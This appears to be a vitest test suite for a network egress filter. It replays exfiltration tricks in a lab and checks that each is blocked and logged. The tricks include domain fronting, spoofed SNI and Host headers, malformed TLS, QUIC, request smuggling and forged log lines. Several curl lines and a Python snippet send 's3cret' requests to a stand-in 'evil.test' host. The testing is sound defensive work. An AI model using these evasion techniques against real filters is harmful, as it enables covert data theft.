import { mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { LogEvent } from '../../src/log/event.ts';
import { asked, type Lab, type RunResult, reached, type Seen, WORLD } from '../e2e/lab.ts';
import {
  type Attempt,
  attack,
  attempts,
  type Both,
  denials,
  PYTHON,
  PYTHON_EXE,
  pidOf,
  program,
  startAttackLab,
  unfiltered,
} from './attack.ts';

let lab: Lab;
beforeAll(async () => {
  lab = await startAttackLab();
});
afterAll(() => lab?.stop());

const curl = (...args: string[]): string[] => ['curl', '-sS', '--max-time', '30', ...args];

/** Requests that no rule allows: for the other name, or with the word that no allowed request carries. */
const stolen = (seen: readonly Seen[]): Seen[] =>
  seen.filter(
    ({ kind, host, url, method }) => kind === 'request' && (host?.includes('evil') || url?.includes('s3cret') || method === 'CONNECT'),
  );

/** What the log says of refused requests and connections, in one text each. */
const refusals = ({ log }: RunResult): string[] =>
  log
    .filter(({ policy, error }) => policy === 'deny' || error)
    .map(({ type, method, url, host, reason, error }) => [type, method, url, host, reason, error].filter(Boolean).join(' '));

describe('one connection, many tricks', () => {
  let both: Both;
  let caught: Map<string, Attempt>;
  let free: Map<string, Attempt>;
  beforeAll(async () => {
    const policy = 'ok.test\nok.test:80\nhttps://other.test/allowed/*';
    both = await attack(lab, [PYTHON, program(lab, 'names.py'), WORLD.ok, WORLD.other, WORLD.evil], { policy, timeoutMs: 110_000 });
    caught = attempts(both.caught.stdout);
    free = attempts(both.free.stdout);
  }, 240_000);

  test('without the filter they arrive, with it none does', () => {
    expect(caught.size).toBe(free.size);
    expect(stolen(both.free.seen).length).toBeGreaterThan(40);
    expect(stolen(both.caught.seen)).toEqual([]);
    expect(both.free.packets.filter(({ dst, data = 0 }) => dst === WORLD.evil && data > 0).length).toBeGreaterThan(10);
    expect(reached(both.caught, WORLD.evil)).toEqual([]);
    expect(both.caught.seen.filter(({ servername }) => servername?.includes('evil'))).toEqual([]);
    // The allowed requests of the same connections do arrive.
    expect(both.caught.seen.filter(({ url }) => url === '/fine').length).toBeGreaterThan(15);
  });

  test('each way has its packets without the filter, and with it a line that says no, of its own connection and process', () => {
    const silent = [...free].filter(([way, { ports }]) => {
      const own = both.free.packets.filter(({ sport = 0 }) => ports.includes(sport));
      // The server says something first: that it is reached at all is the way out.
      return way === 'N7 server first' ? own.length === 0 : own.every(({ data = 0 }) => data === 0);
    });
    expect(silent.map(([way]) => way)).toEqual([]);
    const pid = pidOf(both.caught, 'names.py');
    const refused = both.caught.log.filter((line) => line.type !== 'dns' && line.pid === pid && (line.policy === 'deny' || line.error));
    const told = new Set(refused.flatMap(({ src_port }) => src_port ?? []));
    const untold = [...caught].filter(([, { ports }]) => !ports.some((port) => told.has(port)));
    expect(untold.map(([way]) => way)).toEqual([]);
  });

  test('every line of the log names the program', () => {
    const pid = pidOf(both.caught, 'names.py');
    for (const line of both.caught.log) expect(line).toMatchObject({ exe: PYTHON_EXE, pid });
  });

  const told: [string, RegExp, number][] = [
    ['N3 fronting behind an allowed name', /GET https:\/\/evil\.test\/s3cret evil\.test No rule allows/, 5],
    ['N3 fronting on plain HTTP', /GET http:\/\/evil\.test\/s3cret evil\.test No rule allows/, 4],
    ['N3 a target that contradicts Host', /names another host than the Host/, 3],
    ['N3 two Host fields', /more than one Host field/, 1],
    ['N3 no Host', /no Host field/, 1],
    ['N4 SNI that is not allowed', /TLS to evil\.test:443/, 4],
    ['N5 no SNI', /TLS to 203\.0\.113\.66:443/, 1],
    ['N5 an address as SNI', /malformed TLS: IP address as server name/, 1],
    ['N5 two names', /malformed TLS: more than one server name/, 1],
    ['N5 two extensions', /malformed TLS: extension 0 twice/, 1],
    ['N5 NUL, newline, invalid UTF-8', /malformed TLS: server name ".*" is not a host name/, 3],
    ['N5 half a ClientHello', /malformed TLS: the ClientHello was not complete in time/, 1],
    ['N5 what is no ClientHello', /malformed TLS: a record that is not a handshake record/, 2],
    ['N7 mail port', /mail port 25/, 1],
    ['N7 raw bytes on 443', /No rule allows TCP to other\.test:443/, 1],
    ['N7 raw bytes on 80', /No rule allows TCP to other\.test:80/, 1],
    ['N7 server first', /No rule allows TCP to 203\.0\.113\.66:22/, 1],
    ['N8 paths that read in two ways', /can be read in more than one way/, 6],
    ['N8 plain dot segments', /No rule allows GET https:\/\/other\.test\/allowed\/.*s3cret/, 4],
    ['N8 method', /No rule allows (POST|post) https:\/\/other\.test\/allowed\/s3cret/, 2],
    ['N8 CONNECT', /CONNECT: this is not a proxy/, 3],
    ['N9 both lengths', /both Transfer-Encoding and Content-Length/, 2],
    ['N9 lengths', /Content-Length that is not a number|more than one Content-Length/, 3],
    ['N9 encodings', /Transfer-Encoding other than chunked|control octet in a field/, 3],
    ['N10 the other name on a stream', /GET https?:\/\/evil\.test\/s3cret evil\.test/, 12],
  ];
  test.each(told)('%s is told in the log', (_what, pattern, atLeast) => {
    const lines = refusals(both.caught).filter((line) => pattern.test(line));
    expect(lines.length, refusals(both.caught).join('\n')).toBeGreaterThanOrEqual(atLeast);
  });

  test('a refusal is an answer: nothing hangs and nothing is answered from the other side', () => {
    const rows = [...caught].filter(([way]) => /^N[89]/.test(way) && !/pause|behind|upgrade/.test(way));
    expect(rows.length).toBeGreaterThan(40);
    for (const [way, { got }] of rows) expect([way, got]).toEqual([way, expect.stringMatching(/HTTP\/1.1 4\d\d|Reset|x00/)]);
    for (const { got } of caught.values()) expect(got).not.toContain('hello from evil');
  });
});

describe('addresses that the client chose', () => {
  test.each([
    ['N1 allowed SNI', ['-k', '--resolve', `ok.test:443:${WORLD.evil}`, 'https://ok.test/x'], 'ok.test'],
    ['N1 allowed SNI, passthrough', ['-k', '--resolve', `ok.test:443:${WORLD.evil}`, 'https://ok.test/x'], 'ok.test passthrough'],
    ['N1 allowed SNI, not verified', ['-k', '--resolve', `ok.test:443:${WORLD.evil}`, 'https://ok.test/x'], 'ok.test insecure'],
    ['N1 allowed SNI, a URL rule', ['-k', '--resolve', `ok.test:443:${WORLD.evil}`, 'https://ok.test/x'], 'https://ok.test/*'],
    ['N2 allowed Host', ['-H', 'Host: ok.test', `http://${WORLD.evil}/x`], 'ok.test:80'],
    ['N2 allowed Host, a URL rule', ['-H', 'Host: ok.test', `http://${WORLD.evil}/x`], 'http://ok.test/*'],
    ['N1 upper case and a trailing dot', ['-k', '--resolve', `OK.test.:443:${WORLD.evil}`, 'https://OK.test./x'], 'ok.test'],
  ])('%s at an address of the attacker goes to where the name really is', async (_what, args, policy) => {
    const { free, caught } = await attack(lab, curl(...args), { policy });
    expect(free.packets.filter(({ dst }) => dst === WORLD.evil)).not.toEqual([]);
    expect(reached(caught, WORLD.evil)).toEqual([]);
    expect(reached(caught, WORLD.ok)).not.toEqual([]);
    expect(caught.stdout).toContain('hello from');
    expect(caught.log.find(({ type }) => type !== 'dns')).toMatchObject({ policy: 'allow', exe: '/usr/bin/curl' });
  });

  test('N3 a name behind a passthrough rule is no name for another rule', async () => {
    const argv = curl('-k', '--resolve', `evil.test:443:${WORLD.ok}`, 'https://evil.test/s3cret');
    const script = ['bash', '-c', `getent hosts ok.test; ${argv.join(' ')}`];
    const { free, caught } = await attack(lab, script, { policy: 'ok.test passthrough' });
    expect(stolen(free.seen)).toHaveLength(1);
    expect(reached(caught, WORLD.ok)).toEqual([]);
    expect(denials(caught)).toContainEqual(expect.objectContaining({ host: 'evil.test', exe: '/usr/bin/curl' }));
  });

  test('N6 an encrypted ClientHello does not pass where nobody looks inside, QUIC is UDP', async () => {
    const script = `import sys; sys.argv = ['', '${WORLD.ok}', '${WORLD.other}', '${WORLD.ok}']
src = open('${program(lab, 'names.py')}').read().split('WAYS = {')[0]; sys.path.insert(0, '${lab.directory}/attack'); exec(src)
print(say(tcp(OK, 443, 1.5), record(handshake(sni(b'ok.test'), extension(0xFE0D, b's3cret-s3cret')))))
socket.socket(2, 2).sendto(b'\\xc0\\0\\0\\0\\1' + bytes(1195), (OK, 443))`;
    const { free, caught } = await attack(lab, [PYTHON, '-c', script], { policy: 'ok.test passthrough' });
    expect(free.packets.filter(({ dst, dport, data = 0 }) => dst === WORLD.ok && dport === 443 && data > 0)).not.toEqual([]);
    expect(reached(caught, WORLD.ok)).toEqual([]);
    expect(refusals(caught).some((line) => line.includes('Encrypted Client Hello'))).toBe(true);
    expect(denials(caught)).toContainEqual(expect.objectContaining({ type: 'udp', dst_port: 443, exe: PYTHON_EXE }));
  });
});

describe('F6: the log is text, whatever it is about', () => {
  let result: RunResult;
  let raw: Buffer;
  let report: string;
  beforeAll(async () => {
    const copies = join(lab.directory, 'home', 'copies');
    mkdirSync(copies, { mode: 0o777 });
    unfiltered(lab, ['chmod', '777', copies], 'root');
    const log = join(lab.directory, 'forged.jsonl');
    const html = join(lab.directory, 'forged.html');
    result = await lab.run([PYTHON, program(lab, 'forge.py'), WORLD.ok, WORLD.evil, copies], {
      policy: 'http://ok.test/*',
      args: ['--log', log, '--report', html],
    });
    raw = readFileSync(log);
    report = readFileSync(html, 'utf8');
  }, 180_000);

  test('each line is one event, in UTF-8, without anything a terminal would act on', () => {
    const text = new TextDecoder('utf-8', { fatal: true }).decode(raw);
    const lines = text.split('\n').filter(Boolean);
    expect(lines.length).toBeGreaterThan(60);
    for (const line of lines) {
      expect(line).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
      expect(line.length).toBeLessThan(256 * 1024);
      LogEvent.parse(JSON.parse(line));
    }
    expect(
      lines.map((line) => LogEvent.parse(JSON.parse(line))).filter(({ url, policy }) => policy === 'allow' && url?.includes('forged')),
    ).toEqual([]);
  });

  test('every datagram is there with the arguments and the program that it came from', () => {
    const lines = raw
      .toString()
      .split('\n')
      .filter(Boolean)
      .map((line) => LogEvent.parse(JSON.parse(line)));
    for (let index = 0; index < 8; index++) {
      const by = (port: number): LogEvent | undefined => lines.find(({ dst_port, type }) => dst_port === port && type === 'udp');
      expect(by(21000 + index)).toMatchObject({ policy: 'deny', exe: '/usr/bin/bash' });
      expect(by(21100 + index)).toMatchObject({ policy: 'deny', exe: '/usr/bin/bash' });
      expect(by(21200 + index)?.exe).toMatch(/copies\/x/);
    }
    expect(lines.find(({ dst_port }) => dst_port === 21000)?.cmdline?.[3]).toContain('\n{"ts"');
  });

  test('the summary and the page hold no markup, no escapes and no workflow commands', () => {
    expect(result.stderr).not.toMatch(/[^\P{Cc}\n]|[\p{Cf}\p{Zl}\p{Zp}]/u);
    expect(result.stderr).not.toMatch(/^\s*::|##\[/m);
    expect(result.stderr).not.toMatch(/^\{"ts"/m);
    expect(report).not.toMatch(/<img src=x/);
    expect(report).not.toMatch(/[^\P{Cc}\n\t]|[\p{Cf}\p{Zl}\p{Zp}]/u);
  });

  test('nothing left', () => {
    expect(reached(result, WORLD.evil)).toEqual([]);
    expect(asked(result).filter((name) => name.includes('evil'))).toEqual([]);
    expect(stolen(result.seen)).toEqual([]);
  });
});
